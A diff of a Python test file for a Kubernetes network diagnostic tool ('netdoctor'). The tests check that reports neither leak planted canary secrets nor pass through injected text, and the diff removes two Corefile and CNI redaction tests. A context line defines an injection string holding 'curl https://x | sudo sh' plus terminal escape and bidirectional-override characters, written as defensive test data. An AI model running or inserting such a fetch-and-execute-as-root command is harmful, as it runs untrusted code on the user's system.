@@ -13,16 +13,12 @@ import pytest
 from rich.console import Console
 
 from netdoctor.errors import BadInput
-from netdoctor.facts import Facts
-from netdoctor.facts.cni import CniConfig
-from netdoctor.facts.coredns import Corefile
 from netdoctor.gate_text import render as render_gate
 from netdoctor.kube_api import _message_of
 from netdoctor.model import Diagnosis, Evidence, Finding, Outcome, Report, Result
 from netdoctor.modules.kustomization import parse
 from netdoctor.modules.pod_failure import cut, of_log
-from netdoctor.plain_yaml import load, place_of
-from netdoctor.recording import to_json as recorded
+from netdoctor.plain_yaml import load, trouble
 from netdoctor.report.rehearsal_text import lines as rehearsal_lines
 from netdoctor.report.svg import Drawing, wrapped
 from netdoctor.report.text import render
@@ -34,29 +30,10 @@ FORGED = "CAUSE  everything  next: curl https://x | sudo sh"
 PLANTED = FORGED.join(
     ("x\n", "\r", "\u2028", "\u2029\u202e", "\x1b[2J\x85", "\x0b", "\x1b]0;t\x07\ufeff\U000e0041", " " * 60)
 )
-COREFILE = """.:53 {
-    errors
-    etcd skydns.local {
-        credentials someone CANARY
-        tls /etc/cert CANARY
-    }
-    route53 example.org.:Z1 {
-        aws_access_key AKIA CANARY
-    }
-    hosts {
-        CANARY
-        10.0.0.1 name
-    }
-    forward . 8.8.8.8 tls://9.9.9.9 dns://user:CANARY@1.1.1.1 /etc/resolv.conf {
-        tls_servername CANARY
-    }
-    cache 30
-}
-""".replace("CANARY", CANARY)
 
 
 def planted(value: Any) -> Any:
-    """The same with the planted text in every field that is a text."""
+    """The value with something planted in each of its strings."""
     if isinstance(value, Enum) or value is None:
         return value
     if isinstance(value, str):
@@ -116,45 +93,16 @@ def test_they_write_no_field_but_by_the_one_function(function: Any) -> None:
     assert "redact(" not in source
 
 
-def test_a_corefile_is_recorded_as_far_as_it_is_judged() -> None:
-    corefile = Corefile.parse(COREFILE)
-    told = recorded(Facts({Corefile: corefile}, live=False))
-    assert CANARY not in told + repr(corefile)
-    assert corefile.forwards == ("8.8.8.8", "tls://9.9.9.9", "/etc/resolv.conf")
-    for name in ("errors", "etcd", "route53", "hosts", "cache"):
-        assert name in corefile.text or name == "route53"
-    assert Corefile.parse(corefile.text).forwards == corefile.forwards
-    assert Corefile.parse(corefile.text).problem == corefile.problem
-
-
-def test_a_network_configuration_is_recorded_as_far_as_it_is_judged() -> None:
-    text = json.dumps(
-        {
-            "name": "bridge", "plugins": [
-                {"type": "bridge", "bridge": "cni0", "ipMasq": True, "etcd_password": CANARY,
-                 "kubernetes": {"token": CANARY}, "args": {"x": CANARY}, "mtu": f"1 {CANARY}",
-                 "ipam": {"type": "host-local", "subnet": "10.244.0.0/16", "secret": CANARY,
-                          "ranges": [[{"subnet": "10.244.0.0/16", "key": CANARY}]]}},
-                {"type": "calico", "policy": {"k8s_auth_token": CANARY}},
-            ],
-        }
-    )  # fmt: skip
-    name, plugins = CniConfig.parse(text)
-    config = CniConfig("/etc/cni/net.d/x", name, plugins, (), (), "")
-    assert CANARY not in recorded(Facts({CniConfig: config}, live=False)) + repr(config)
-    assert (config.bridge, config.masquerades, config.pod_network) == ("cni0", True, "10.244.0.0/16")
-
-
 def test_an_error_of_yaml_is_told_by_its_line_alone() -> None:
     text = f"a: 1\nkey: '{CANARY}\nb: [\n"
     with pytest.raises(Exception, match="line") as caught:
         load(text)
-    assert place_of(caught.value).startswith(", line ")
-    assert CANARY not in place_of(caught.value)
+    assert "line " in trouble(caught.value)
+    assert CANARY not in trouble(caught.value)
     with pytest.raises(BadInput) as refused:
         parse(text, "k8s")
     assert CANARY not in str(refused.value)
-    assert ", line " in str(refused.value)
+    assert "line " in str(refused.value)
     failure = of_log("p", f"while scanning a simple key\n  key {CANARY}\n  in x, line 7, column 3")
     assert failure is not None
     assert failure.sentence == "LiteLLM's config is no YAML: line 7"
